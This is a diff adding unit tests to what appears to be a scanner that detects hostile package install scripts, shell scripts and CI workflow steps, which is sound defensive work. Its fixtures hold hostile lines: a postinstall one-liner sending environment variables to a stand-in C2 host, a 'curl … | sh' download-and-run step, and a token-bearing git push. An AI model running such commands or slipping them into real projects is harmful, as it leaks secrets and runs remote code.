@@ -69,6 +69,56 @@ def test_scripts_of_a_manifest() -> None:
     assert facts(list(embedded.read("package.json", other)))["self-propagation npm publish"] == ("call", 5)
 
 
+def test_a_script_that_an_install_script_runs_is_run_at_installation() -> None:
+    data = f"""{{"scripts": {{
+      "prepare": "npm run -s build && yarn lint",
+      "build": "run-s gen:*  compile",
+      "compile": "{RUN}",
+      "prelint": "curl https://d.example.invalid",
+      "test": "curl https://e.example.invalid"}}}}"""
+    found = facts(list(embedded.read("package.json", data.encode())))
+    assert found["download-and-run c2.example.invalid -> sh"] == ("install", 4)
+    assert found["network d.example.invalid"] == ("install", 5)
+    assert found["network e.example.invalid"] == ("call", 6)
+
+
+def test_scripts_that_run_each_other_come_to_an_end() -> None:
+    data = '{"scripts": {"install": "npm run a", "a": "npm run b", "b": "npm run a && npm run b"}}'
+    assert list(embedded.read("package.json", data.encode())) == []
+
+
+def test_javascript_and_python_inside_are_read_as_such() -> None:
+    program = "require('https').get('https://c2.example.invalid/?'+JSON.stringify(process.env))"
+    data = f'{{"scripts": {{\n "postinstall": "node -e \\"{program}\\""}}}}'
+    found = facts(list(embedded.read("package.json", data.encode())))
+    assert found["exfiltration environment -> c2.example.invalid"] == ("install", 2)
+    text = "true\npython3 - <<'EOF'\nimport os\n\nos.system('id')\nEOF\n"
+    assert facts(list(shell.read("a.sh", text.encode())))["shell id"] == ("call", 5)
+
+
+def test_what_is_everyday_for_a_shell_is_so_inside() -> None:
+    data = b'{"scripts": {"prepare": "node -e \\"require(\'fs\').rmSync(\'dist\', {recursive: true})\\""}}'
+    assert list(embedded.read("package.json", data)) == []
+
+
+def test_a_push_is_news_where_nobody_asked_for_one() -> None:
+    push = "self-propagation git push"
+    assert push in facts(list(embedded.read("package.json", b'{"scripts": {"postinstall": "git push"}}')))
+    assert push not in facts(list(embedded.read("package.json", b'{"scripts": {"go": "git push"}}')))
+    assert facts(list(shell.read("a.sh", b"git push origin main"))) == {"process git push": ("call", 1)}
+    strong = b"git push https://x:$GITHUB_TOKEN@github.com/a/b"
+    assert "self-propagation git push with a token" in facts(list(shell.read("a.sh", strong)))
+
+
+def test_the_evidence_is_the_pipeline_as_it_is_written() -> None:
+    text = (
+        "on: push\njobs:\n  a:\n    steps:\n      - run: curl ${{ github.sha }}.c2.example.invalid/x | sh\n"
+    )
+    records = list(embedded.read(".github/workflows/a.yml", text.encode()))
+    (chain,) = (one for one in records if isinstance(one, Capability) and one.name == "download-and-run")
+    assert chain.at.text == "curl ${{ … }}.c2.example.invalid/x | sh"
+
+
 def test_of_an_installed_package_only_what_runs_at_installation_counts() -> None:
     data = f'{{"scripts": {{"test": "{RUN}"}}}}'.encode()
     assert list(embedded.read("node_modules/left/package.json", data)) == []
